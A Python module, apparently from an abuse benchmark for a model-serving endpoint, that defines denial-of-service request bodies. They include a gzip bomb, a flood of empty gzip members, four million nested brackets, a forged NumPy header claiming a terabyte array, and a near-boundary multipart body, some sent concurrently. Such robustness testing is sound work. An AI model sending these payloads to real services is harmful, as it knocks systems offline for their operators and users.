"""Bodies of predictions that are small to send and large to read."""

import gzip
from typing import Final

from benchmarks.abuse.attack import Target

MIB: Final = 1 << 20
TEN_THOUSAND_ROWS: Final = b'{"inputs":[' + b",".join([b"[" + b"0," * 783 + b"0]"] * 10_000) + b"]}"


def gzip_members(target: Target) -> None:
    """30 MB of gzip's members, all of them empty."""
    target.predict(gzip.compress(b"", mtime=0) * 1_500_000, Content_Encoding="gzip")


def gzip_bomb(target: Target) -> None:
    """1 GiB of zeros in 1 MB."""
    target.predict(gzip.compress(bytes(MIB), mtime=0) * 1024, Content_Encoding="gzip")


def deep_json(target: Target) -> None:
    """Four million brackets."""
    target.predict(b"[" * 4_000_000)


def one_long_row(target: Target) -> None:
    """One row of 16 million numbers, four times."""
    body = b'{"inputs":[[' + b"1," * 15_000_000 + b"1]]}"
    target.at_once([lambda: target.predict(body)] * 4, clients=2)


def whole_rows(target: Target) -> None:
    """10,000 rows a request, as often as they are answered."""
    target.at_once([lambda: target.predict(TEN_THOUSAND_ROWS)] * 200, clients=4)


def forged_array(target: Target) -> None:
    """A NumPy header that asks for a terabyte, and nothing behind it."""
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000, 784), }".ljust(117) + b"\n"
    body = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header
    target.at_once([lambda: target.predict(body, "application/x-npy")] * 200)


def near_boundaries(target: Target) -> None:
    """A form of 30 MB in which each line is nearly its boundary."""
    body = b"--edge\r\n" + b'Content-Disposition: form-data; name="file"\r\n\r\n' + b"\r\n--edg" * 4_500_000
    target.predict(body, "multipart/form-data; boundary=edge")
